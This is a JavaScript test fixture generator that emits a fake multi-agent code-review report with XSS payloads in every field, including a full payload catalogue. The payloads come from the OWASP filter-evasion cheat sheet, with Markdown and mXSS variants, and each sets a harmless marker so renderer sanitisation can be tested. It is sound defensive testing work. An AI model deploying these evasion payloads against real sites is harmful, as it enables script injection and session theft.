// A valid G4 Deep Review whose every field carries payloads from the OWASP "XSS Filter Evasion
// Cheat Sheet" (plus Markdown-specific link and mXSS tricks). Every payload, if it ever ran, sets
// `window.__xss = <its number>` or calls `alert(<its number>)`, so a failing test names the payload.
//
//   node tests/e2e/gen/hostile.mjs > /tmp/hostile.md
//
// Deterministic: the same file every run.
import { resolve } from 'node:path';
import { pathToFileURL } from 'node:url';

const dec = (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join('');
const decPad = (s) => [...s].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')}`).join('');
const hex = (s) => [...s].map((c) => `&#x${c.codePointAt(0).toString(16).toUpperCase()}`).join('');
const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
const pct = (s) => [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
const cssEsc = (s) => [...s].map((c) => `\\${c.codePointAt(0).toString(16).padStart(4, '0')}`).join('');
const charCodes = (s) => [...s].map((c) => c.codePointAt(0)).join(',');

// Each entry: (js, n) => payload text. `js` is the action (`window.__xss=N` or `alert(N)`).
const TEMPLATES = [
  // Basic and tag-soup forms
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<SCRIPT SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js}//'>`,
  (js) => `<IMG SRC="javascript:${js};">`,
  (js) => `<IMG SRC=javascript:${js}>`,
  (js) => `<IMG SRC=JaVaScRiPt:${js}>`,
  (js) => `<IMG SRC=javascript:${js.replace(/\d+/, (d) => `&quot;${d}&quot;`)}>`,
  (js) => `<IMG SRC=\`javascript:${js}\`>`,
  (js) => `\\<a onmouseover="${js}"\\>xxs link\\</a\\>`,
  (js) => `\\<a onmouseover=${js}\\>xxs link\\</a\\>`,
  (js) => `<IMG """><SCRIPT>${js}</SCRIPT>"\\>`,
  (js) => `<IMG SRC=javascript:eval(String.fromCharCode(${charCodes(js)}))>`,
  (js) => `<IMG SRC=# onmouseover="${js}">`,
  (js) => `<IMG SRC= onmouseover="${js}">`,
  (js) => `<IMG onmouseover="${js}">`,
  (js) => `<IMG SRC=/ onerror="eval(String.fromCharCode(${charCodes(js)}))"></img>`,
  (js) => `<img src=x onerror="${decPad(js)}">`,
  (js) => `<IMG SRC=${dec('javascript:' + js)}>`,
  (js) => `<IMG SRC=${decPad('javascript:' + js)}>`,
  (js) => `<IMG SRC=${hex('javascript:' + js)}>`,
  (js) => `<IMG SRC="jav\tascript:${js};">`,
  (js) => `<IMG SRC="jav&#x09;ascript:${js};">`,
  (js) => `<IMG SRC="jav&#x0A;ascript:${js};">`,
  (js) => `<IMG SRC="jav&#x0D;ascript:${js};">`,
  (js) => `<IMG SRC=java&#0;script:${js}>`,
  (js) => `<IMG SRC=" &#14;  javascript:${js};">`,
  (js) => `<SCRIPT/XSS SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${js}>`,
  (js) => `<SCRIPT/SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<<SCRIPT>${js};//\\<</SCRIPT>`,
  (js) => `<SCRIPT SRC=data:text/javascript,${js}?< B >`,
  (js) => `<SCRIPT SRC=//xss.invalid/.j?${js}>`,
  (js) => `<IMG SRC="\`<javascript:${js}>\`"`,
  (js) => `<iframe src=data:text/html,${pct(`<script>parent.${js}</script>`)} <`,
  (js) => `\\";${js};//`,
  (js) => `</TITLE><SCRIPT>${js};</SCRIPT>`,
  (js) => `<INPUT TYPE="IMAGE" SRC="javascript:${js};">`,
  (js) => `<BODY BACKGROUND="javascript:${js}">`,
  (js) => `<IMG DYNSRC="javascript:${js}">`,
  (js) => `<IMG LOWSRC="javascript:${js}">`,
  (js) => `<STYLE>li {list-style-image: url("javascript:${js}");}</STYLE><UL><LI>XSS</br>`,
  (js) => `<IMG SRC='vbscript:msgbox("${js}")'>`,
  (js) => `<svg/onload=${js}>`,
  (js) => `Set.constructor\`${js.replace('(', '\\x28').replace(')', '\\x29')}\`\`\``,
  (js) => `<BODY ONLOAD=${js}>`,
  (js) => `<BGSOUND SRC="javascript:${js};">`,
  (js) => `<BR SIZE="&{${js}}">`,
  (js) => `<LINK REL="stylesheet" HREF="javascript:${js};">`,
  (js) => `<LINK REL="stylesheet" HREF="http://xss.invalid/xss.css?${js}">`,
  (js) => `<STYLE>@import'http://xss.invalid/xss.css?${js}';</STYLE>`,
  (js) => `<META HTTP-EQUIV="Link" Content="<http://xss.invalid/xss.css?${js}>; REL=stylesheet">`,
  (js) => `<STYLE>BODY{-moz-binding:url("http://xss.invalid/xssmoz.xml#${js}")}</STYLE>`,
  (js) => `<STYLE>@im\\port'\\ja\\vasc\\ript:${js}';</STYLE>`,
  (js) => `<IMG STYLE="xss:expr/*XSS*/ession(${js})">`,
  (js) => `<STYLE TYPE="text/javascript">${js};</STYLE>`,
  (js) => `<STYLE>.XSS{background-image:url("javascript:${js}");}</STYLE><A CLASS=XSS></A>`,
  (js) => `<STYLE type="text/css">BODY{background:url("javascript:${js}")}</STYLE>`,
  (js) => `<XSS STYLE="xss:expression(${js})">`,
  (js) => `<XSS STYLE="behavior: url(xss.htc?${js});">`,
  (js) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${js};">`,
  (js) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${b64(`<script>${js}</script>`)}">`,
  (js) => `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:${js};">`,
  (js) => `<IFRAME SRC="javascript:parent.${js};"></IFRAME>`,
  (js) => `<IFRAME SRC=# onmouseover="${js}"></IFRAME>`,
  (js) => `<FRAMESET><FRAME SRC="javascript:parent.${js};"></FRAMESET>`,
  (js) => `<TABLE BACKGROUND="javascript:${js}">`,
  (js) => `<TABLE><TD BACKGROUND="javascript:${js}">`,
  (js) => `<DIV STYLE="background-image: url(javascript:${js})">`,
  (js) => `<DIV STYLE="background-image:${cssEsc(`url('javascript:${js}')`)}">`,
  (js) => `<DIV STYLE="background-image: url(&#1;javascript:${js})">`,
  (js) => `<DIV STYLE="width: expression(${js});">`,
  (js) => `<!--[if gte IE 4]><SCRIPT>${js};</SCRIPT><![endif]-->`,
  (js) => `<BASE HREF="javascript:${js};//">`,
  (js) => `<OBJECT TYPE="text/x-scriptlet" DATA="data:text/html,${pct(`<script>parent.${js}</script>`)}"></OBJECT>`,
  (js) => `<EMBED SRC="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>parent.${js}</script></svg>`)}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  (js) => `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:${js}"></B></I></XML>`,
  (js) => `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>${js}</SCRIPT>"></BODY></HTML>`,
  (js) => `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>${js}</SCRIPT>">`,
  (js) => `<SCRIPT a=">" SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<SCRIPT =">" SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<SCRIPT a=">" '' SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<SCRIPT "a='>'" SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<SCRIPT a=\`>\` SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<SCRIPT a=">'>" SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="data:text/javascript,${js}"></SCRIPT>`,
  (js) => `<A HREF="javascript:document.location='javascript:${js}'">XSS</A>`,
  (js) => `<a href="jav&#x09;ascript:${js}">tab</a>`,
  (js) => `<a href="&#14;javascript:${js}">ctl</a>`,
  (js) => `<a href="javas&#99;ript:${js}">entity</a>`,
  // Event handlers of the cheat sheet's list, in tags browsers fire without a user
  (js) => `<body onpageshow=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}>`,
  (js) => `<marquee onstart=${js}>m</marquee>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  (js) => `<object data=javascript:${js}>`,
  (js) => `<embed src=javascript:${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">svg link</text></a></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><set onbegin=${js} attributeName=x to=1>`,
  (js) => `<math><maction actiontype="statusline#" xlink:href="javascript:${js}">CLICKME</maction></math>`,
  (js) => `<form><button formaction=javascript:${js}>X</button></form>`,
  (js) => `<isindex type=image src=1 onerror=${js}>`,
  (js) => `<img src=x:${js} onerror=eval(src.slice(2))>`,
  (js) => `"><img src=x onerror=${js}>`,
  (js) => `'><script>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<iframe srcdoc="&lt;script&gt;parent.${js}&lt;/script&gt;"></iframe>`,
  (js) => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
  (js) => `<a href="data:text/html;base64,${b64(`<script>${js}</script>`)}">data link</a>`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `<x onclick=${js}>click me`,
  (js) => `<a id=x tabindex=1 onfocus=${js} autofocus>focus</a>`,
  (js) => `<div style="position:fixed;inset:0" onmouseover=${js}>cover</div>`,
  (js) => `<img src=1 onerror=\\u0061${js.slice(1)}>`,
  (js) => `<script>window['ev'+'al']('${js}')</script>`,
  (js) => `<script>eval(atob('${b64(js)}'))</script>`,
  (js) => `<img srcset=",,,,,x" onerror=${js}>`,
  (js) => `<picture><source srcset=x><img src=x onerror=${js}></picture>`,
  (js) => `<link rel=import href="data:text/html,<script>parent.${js}</script>">`,
  (js) => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${js}</script>`,
  (js) => `<base href="data:text/javascript,${js}//">`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<style onload=${js}></style>`,
  (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<form id=f><input name=attributes></form><img src=x onerror=${js}>`,
  // Markdown-specific: link destinations a renderer might pass through
  (js) => `[md link](javascript:${js})`,
  (js) => `[md upper](JAVASCRIPT:${js})`,
  (js) => `[md entity colon](javascript&#58;${js})`,
  (js) => `[md hex j](&#x6A;avascript:${js})`,
  (js) => `[md angle](<javascript:${js}>)`,
  (js) => `<javascript:${js}>`,
  (js) => `[md data](data:text/html;base64,${b64(`<script>${js}</script>`)})`,
  (js) => `[md vbscript](vbscript:${js})`,
  (js) => `![md image](javascript:${js})`,
  (js) => `![md img breakout](x" onerror="${js})`,
  (js) => `[md title breakout](https://example.com/ "\\" onmouseover=\\"${js}")`,
  (js) => `[md newline](javascript://%0a${js})`,
  (js) => `[md pct](javascript%3A${js})`,
  (js) => `[md leading ws](%20javascript:${js})`,
  (js) => `[md file](file:///etc/passwd?${js})`,
];

/** The payloads: { n, text, js } with n = 1…; even n set window.__xss, odd n call alert. */
export const PAYLOADS = TEMPLATES.map((t, i) => {
  const n = i + 1;
  const js = n % 2 ? `alert(${n})` : `window.__xss=${n}`;
  return { n, js, text: t(js, n) };
});

/** Payloads that fit a Markdown context without changing the document's structure. */
const fits = {
  line: (p) => !/[\n\r]/.test(p.text),
  cell: (p) => fits.line(p),
  code: (p) => fits.line(p) && !p.text.includes('`'),
  title: (p) => fits.code(p) && !p.text.includes('*') && !p.text.includes(' — '),
  agent: (p) => fits.title(p) && !/[[\],()]/.test(p.text),
  info: (p) => fits.code(p) && !p.text.includes('~'),
  // At the start of a line: an HTML block. CommonMark ends a <script>/<pre>/<style>/<textarea>
  // block only at its end tag (any case: the parser folds upper-case end tags, parse::cmark) and
  // a comment/`<?`/CDATA block only at its terminator; payloads without one would swallow the
  // rest of the report into one block, as they would on GitHub.
  block: (p) => {
    if (!fits.line(p)) return false;
    const t = /^<(script|pre|style|textarea)\b/i.exec(p.text);
    if (t) return p.text.toLowerCase().includes(`</${t[1].toLowerCase()}>`);
    if (p.text.startsWith('<!--')) return p.text.includes('-->');
    if (p.text.startsWith('<?')) return p.text.includes('?>');
    return true;
  },
};

/** Round-robin over the payloads that fit `kind`: every payload lands somewhere, many twice. */
function picker() {
  const next = {};
  return (kind, count = 1) => {
    const pool = PAYLOADS.filter(fits[kind]);
    const out = [];
    for (let i = 0; i < count; i++) {
      next[kind] = ((next[kind] ?? -1) + 1) % pool.length;
      out.push(pool[next[kind]].text);
    }
    return count === 1 ? out[0] : out;
  };
}

const cell = (s) => s.replaceAll('|', '\\|');


export function hostileReport() {
  const pick = picker();
  const out = [];
  const w = (...lines) => out.push(...lines);
  const agents = ['Claude Opus 4.8', 'Codex GPT 5.5', 'Gemini 3.1 Pro'];
  w(`# Deep Review: 20260801-000000-${pick('title')}`, '');
  w('| | |', '|---|---|');
  w('| **Date** | 2026-08-01 00:00 |');
  w(`| **Repo** | [acme-labs/${cell(pick('title'))}](javascript:window.__xss=900) |`);
  w(`| **Round** | 1 (of ${cell(pick('cell'))}) |`);
  w(`| **Author** | [@${cell(pick('title'))}](javascript:alert(901)) (${cell(pick('cell'))}) |`);
  w(`| **PR** | [#666](javascript:window.__xss=902) — ${cell(pick('cell'))} "quotes" & 'apostrophes' |`);
  w(`| **Branch** | \`${cell(pick('code'))}\` |`);
  w(
    `| **Commits** | ${[0, 1, 2, 3]
      .map((i) => `\`${['deadbee', 'c0ffee1', '0badf00', 'feedf00'][i]}\` ${cell(pick('cell'))}`)
      .join('<br>')} |`,
  );
  w(`| **Review SHA** | \`${cell(pick('code'))}\` |`);
  w(
    `| **Reviewers** | ${agents[0]} (effort: ${cell(pick('agent'))}), ${agents[1]} (effort: high), ` +
      `${agents[2]} (effort: default — ${cell(pick('agent'))}) |`,
  );
  w(`| **Verdict** | **Rework ${cell(pick('title'))}** — ${cell(pick('cell', 3).join(' '))} |`);
  w(`| **Wall-clock time** | \`${cell(pick('code'))}\` |`, '', '---', '');

  w('## Executive Summary', '');
  w(`This report is hostile on purpose. ${pick('line', 4).join(' ')}`, '');
  w(...pick('block', 3), '');
  w(`**Structure:** ${pick('line')} 3 critical, 6 important, 8 suggestions.`, '', '---', '');

  let findingNo = 0;
  const finding = (letter, n, sev) => {
    findingNo++;
    const loc = `src/${pick('code')}.go:${n}-${n + 4}`;
    const ag = [agents[findingNo % 3], pick('agent')].join(', ');
    const tag = findingNo % 2 ? ` (${sev}, regression)` : '';
    w(`${letter}${n}. **${pick('title')}** — \`${loc}\`${tag} [${ag}]`, '');
    w('```' + pick('info'));
    w(...pick('code', 3));
    w('```', '');
    w(`Explanation with inline payloads: ${pick('line', 3).join(' and ')}.`, '');
    // A raw HTML block: payload at the start of a line.
    w(pick('block'), '');
    w(`Fix: see [the fix](${['javascript:alert(903)', 'JaVaScRiPt:window.__xss=904', 'data:text/html,<script>window.__xss=905</script>'][findingNo % 3]}) or ${pick('line')}.`, '');
    w('```diff', `-    return "${pick('code')}"`, `+    return "${pick('code')}"`, '```', '', '---', '');
  };
  w('## Critical Issues', '');
  for (let i = 1; i <= 3; i++) finding('C', i, 'critical');
  w('## Important Issues', '');
  for (let i = 1; i <= 6; i++) finding('I', i, 'important');
  w('## Suggestions', '');
  for (let i = 1; i <= 8; i++) finding('S', i, 'suggestion');

  w('## Design Observations', '', '### Concerns', '');
  for (let i = 0; i < 3; i++) {
    w(`- **${pick('title')}** (in-scope) [${agents[i]}] — ${pick('line', 2).join(' ')}`, '');
  }
  w('### Strengths', '');
  for (let i = 0; i < 2; i++) w(`- **${pick('title')}** [${agents[i]}] — ${pick('line')}`);
  w('');
  for (const heading of [
    'Testing Assessment',
    'Documentation Assessment',
    'Commit Structure',
    'Acknowledged Limitations',
    'Unresolved Feedback',
  ]) {
    w(`## ${heading}`, '', pick('line', 2).join(' '), '');
    w(...pick('line', 2).map((p, i) => `${i + 1}. **${pick('title')}** — ${p}`), '');
  }
  w(`## Architectural Recommendation — ${pick('title')}`, '', pick('line'), '');

  // Every payload once more, each in a code block of its own section: all of them verbatim on
  // the page, whatever the contexts above did to them.
  w('## Payload catalogue', '', 'Every payload of this report, one per line:', '', '```text');
  for (const p of PAYLOADS) w(p.text.replaceAll('```', "'''"));
  w('```', '');
  w('## Agent Performance Retro', '');
  for (const a of ['Claude', 'Codex', 'Gemini']) w(`### [${a}]`, '', pick('line', 3).join(' '), '');
  w('### Summary', '');
  w(`| | ${agents.join(' | ')} |`, '|---|---|---|---|');
  for (const row of ['Duration', 'Findings', 'Tool calls', 'False positives', 'Unique insights']) {
    w(`| ${row} | ${pick('cell', 3).map(cell).join(' | ')} |`);
  }
  w(`| **Totals** | **${cell(pick('title'))}** | **1I** | **2S** |`, '');
  w(`**Reconciliation:** ${pick('line')}`, '');

  w('## Review Process Notes', '', '### Skill improvements', '');
  w(...pick('block', 2).map((p) => `- ${p}`), '');
  w('### Repo context updates', '');
  w(...pick('line', 2).map((p) => `- \`[repo]\` ${p}`), '', '---', '');

  w('## Appendix: Original Reviews', '');
  for (const a of ['Claude', 'Codex', 'Gemini']) {
    w(`### [${a}] — Pass 1`, '', `## Review of PR #666: ${pick('line')}`, '');
    w(`I1. **${pick('title')}** — \`${pick('code')}\` (important, gap)`, '', pick('line', 4).join(' '), '');
    w('```' + pick('info'), ...pick('code', 2), '```', '');
  }
  w('## Resolution', '', '| | |', '|---|---|', '| **Addressed** | 2026-08-02 |');
  w(`| **Commit** | \`abc1234\` ${cell(pick('cell'))} |`, '');
  w('| # | Finding | Action | Reason |', '|---|---|---|---|');
  w(`| 1 | I1: ${cell(pick('cell'))} | Fixed | ${cell(pick('cell'))} |`);
  w(`| 2 | S2: ${cell(pick('cell'))} | Skipped | ${cell(pick('cell'))} |`, '');

  return out.join('\n');
}

if (process.argv[1] && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) {
  process.stdout.write(hostileReport());
}
